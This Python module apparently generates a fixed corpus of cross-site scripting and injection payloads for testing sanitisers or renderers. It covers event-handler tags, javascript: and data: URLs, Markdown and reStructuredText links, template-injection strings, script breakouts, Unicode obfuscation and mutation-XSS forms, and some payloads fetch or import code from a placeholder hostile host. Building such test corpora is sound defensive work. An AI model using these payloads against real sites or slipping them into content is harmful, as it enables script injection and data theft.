"""A grammar of hostile text: what people have tried to smuggle into pages, put together from parts. Deterministic.

`payloads()` gives every sentence of it. Each would set `window.__ran`, open a dialog or ask another host if a page took any part
of it for markup, script, a style, an address or a template.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "window.__ran=1"
HOST = "//hostile.example.invalid/"

TAGS = (
    "img",
    "svg",
    "body",
    "input",
    "video",
    "audio",
    "details",
    "iframe",
    "object",
    "marquee",
    "math",
    "x",
    "a",
    "style",
    "form",
)
EVENTS = (
    ("onerror", "src=x"), ("onload", ""), ("onfocus", "autofocus tabindex=0"), ("ontoggle", "open"), ("onbegin", "begin=0s"),
    ("onstart", "loop=1"), ("onanimationstart", "style=animation-name:x"), ("onpointerenter", ""), ("oncanplay", "src=x autoplay"),
    ("onbeforetoggle", "popover"),
)  # fmt: skip
QUOTES = ('"', "'", "", "`")
SPACES = (" ", "/", "\t", "\n", "\x0c", "\u00a0")
CLOSERS = (
    "", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "]]>", "</pre></code>", "</time>", "</bdi></p>", "*/",
)  # fmt: skip
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript\u00a0:",
    "&#106;avascript:", "&#x6A;avascript&colon;", "javascript&#58;", "java&Tab;script:", "java&NewLine;script:", "vbscript:",
    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg onload=1>", "blob:null/", "view-source:",
    "file:///etc/passwd#", "javascript://example.invalid/%0a", "feed:javascript:", "\u202ejavascript:", "j\u200bavascript:",
    "//hostile.example.invalid/?", "\\\\hostile.example.invalid\\", "/\\hostile.example.invalid/", "https:hostile.example.invalid/",
    "http://user:pass@hostile.example.invalid/", "ｊavascript:", "livescript:", "mocha:", "about:blank#",
)  # fmt: skip
PLACES = (
    '<a href="{u}">a</a>', "<a href='{u}'>a</a>", "<a href={u}>a</a>", '<img src="{u}">', '<iframe src="{u}"></iframe>',
    '<form action="{u}"><button>a</button></form>', '<button formaction="{u}">a</button>', '<object data="{u}"></object>',
    '<embed src="{u}">', '<link rel=stylesheet href="{u}">', '<base href="{u}">', '<meta http-equiv=refresh content="0;url={u}">',
    '<svg><a xlink:href="{u}"><text>a</text></a></svg>', '<svg><use href="{u}"/></svg>', '<math href="{u}">a</math>',
    '<p style="background:url({u})">a</p>', '<video poster="{u}"></video>', '<area href="{u}">', '<img srcset="{u} 2x">',
)  # fmt: skip
MARKDOWN = (
    "[a]({u})", "[a](<{u}>)", "![a]({u})", "<{u}>", "[a][1]\n\n[1]: {u}", "[a]: {u}\n\n[a]", "[![a]({u})]({u})", "![a][1]\n\n[1]: {u} \"t\"",
    "[a]({u} \"title\")", "# [a]({u})", "| [a]({u}) |\n|---|", "> [a]({u})", "[^1]\n\n[^1]: [a]({u})", "`[a]({u})`",
)  # fmt: skip
RST = (
    "`a <{u}>`_", ".. _a: {u}\n\na_", ".. image:: {u}\n   :target: {u}\n   :alt: a", ".. figure:: {u}", "__ {u}\n\n`a`__",
    ".. |a| image:: {u}\n\n|a|", ".. raw:: html\n\n   <a href=\"{u}\">a</a>", ".. include:: {u}", ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<a href=\"{u}\">`",
    ".. csv-table::\n   :url: {u}", ".. code-block:: html\n\n   {u}", ":math:`{u}`", ".. container:: x\" onload=\"{u}", ".. class:: x\" onclick=\"{u}\n\na",
)  # fmt: skip
TEMPLATES = (
    "{{{{{r}}}}}", "{{{{constructor.constructor('{r}')()}}}}", "${{{r}}}", "#{{{r}}}", "<%= {r} %>", "{{% set x = '{r}' %}}", "{{{{7*7}}}}",
    "{{{{config}}}}", "{{{{self.__init__.__globals__}}}}", "%(secret)s", "%s%n%d", "{{0.__class__}}", "[[{r}]]", "<?php {r} ?>", "$({r})", "`{r}`",
    "*ngIf={r}", "v-html={r}", "data-controller=x data-action=load->x#{r}", "@click={r}", ":href={r}", "{{{{=<% %>=}}}}<%& {r} %>",
)  # fmt: skip
JSON = (
    '"}}]);{r}//', "'}}]);{r}//", "\\u003cscript\\u003e{r}\\u003c/script\\u003e", "</script><script>{r}</script>", "\u2028{r}\u2029", "\\\";{r}//",
    '{{"__proto__":{{"x":"{r}"}}}}', "*/{r}/*", "-->\n{r}", "//\r\n{r}", "\\x3cscript\\x3e{r}", "]]><script>{r}</script>", "){r}(", "\\';{r}//",
)  # fmt: skip
UNICODE = (
    "＜script＞{r}＜/script＞", "\u202e<script>{r}</script>", "<\u200bscript>{r}</script>", "\ufeff<script>{r}</script>",
    "<scr\u00adipt>{r}</script>", "\u2066<img src=x onerror={r}>\u2069", "<ſcript>{r}</ſcript>", "<İmg src=x onerror={r}>", "‹img src=x onerror={r}›",
    "<img\u2028src=x\u2028onerror={r}>", "\u0338<script>{r}</script>", "<script>{r}</script>\u0338", "💥" * 40 + "<script>{r}</script>",
    "\u115f\u1160\u3164<b onmouseover={r}>", "a\u0300" * 50 + "<img src=x onerror={r}>", "\u061c<a href=javascript:{r}>a</a>",
    "\udbff".encode("utf-16", "surrogatepass").decode("utf-16", "replace") + "<script>{r}</script>", "\u0085<script>{r}</script>",
)  # fmt: skip
FOREIGN = ("svg", "math")
WITHIN = (
    "style",
    "script",
    "title",
    "desc",
    "foreignObject",
    "annotation-xml encoding=text/html",
    "mtext",
    "mglyph",
    "set attributeName=href to=javascript:{r}",
    "animate attributeName=onload values={r}",
)
ENDS = (
    "table",
    "select",
    "p",
    "noscript",
    "template",
    "textarea",
    "xmp",
    "plaintext",
    "title",
    "iframe",
    "noembed",
    "listing",
)


def payloads() -> list[str]:
    """All of them, each once, in a fixed order."""
    return list(dict.fromkeys(_all()))


def share(every: int) -> list[str]:
    """Each `every`th, from all parts of the grammar."""
    return payloads()[::every]


def _all() -> Iterator[str]:
    yield from _elements()
    yield from _addresses()
    yield from _foreign()
    for form in (*TEMPLATES, *JSON, *UNICODE):
        for run in (RUN, "alert(1)", f"fetch('{HOST}')", f"import('{HOST}')"):
            yield form.format(r=run)
    yield from _breaking()


def _elements() -> Iterator[str]:
    for number, (tag, (event, more)) in enumerate(product(TAGS, EVENTS)):
        for quote, space in (
            (QUOTES[number % 4], SPACES[number % 6]),
            (QUOTES[(number + 1) % 4], SPACES[(number + 3) % 6]),
        ):
            closer = CLOSERS[number % len(CLOSERS)]
            yield f"{closer}<{tag}{space}{more}{space}{event}={quote}{RUN}{quote}>"
            yield f"{closer}<{tag.upper()}{space}{event.title()}{space}={space}{quote}{RUN}{quote}{space}{more}//"
    for closer, run in product(CLOSERS, (RUN, "alert(document.domain)", f"location='{HOST}'")):
        yield f"{closer}<script>{run}</script>"
        yield f"{closer}<script src={HOST}></script>"
        yield f"{closer}<style>@import '{HOST}';*{{background:url({HOST})}}</style>"
        yield f"{closer}<!--<img src=--><img src=x onerror={run}>-->"


def _addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        address = scheme + RUN
        for form in (*PLACES, *MARKDOWN, *RST):
            yield form.replace("{u}", address)


def _foreign() -> Iterator[str]:
    """Text that one parser reads as markup and the next as text: what survives a sanitiser by changing afterwards."""
    for root, inner, end in product(FOREIGN, WITHIN, ENDS):
        body = inner.replace("{r}", RUN)
        name = body.split(" ")[0]
        yield f'<{root}><{body}><{end}><img title="</{name}></{end}><img src=x onerror={RUN}>">'


def _breaking() -> Iterator[str]:
    """Out of an attribute, a comment, a string, and deep nesting."""
    for quote, closer in product(
        ('"', "'", "&quot;", "&#34;", '\\"', "%22"), ("autofocus", "style=x:expression(1)", "src=x", "srcdoc=x")
    ):
        yield f"x{quote} onfocus={quote}{RUN}{quote} {closer} tabindex=1 x={quote}"
    for depth in (2, 50, 300):
        yield "<b>" * depth + f"<img src=x onerror={RUN}>"
        yield "> " * min(depth, 90) + f"<img src=x onerror={RUN}>"
        yield "[" * depth + f"a](javascript:{RUN})"
    for fence in ("```", "~~~", "    ", "\t", "<pre>", "<code>"):
        yield f'{fence}html" onload="{RUN}\n<script>{RUN}</script>\n{fence}'
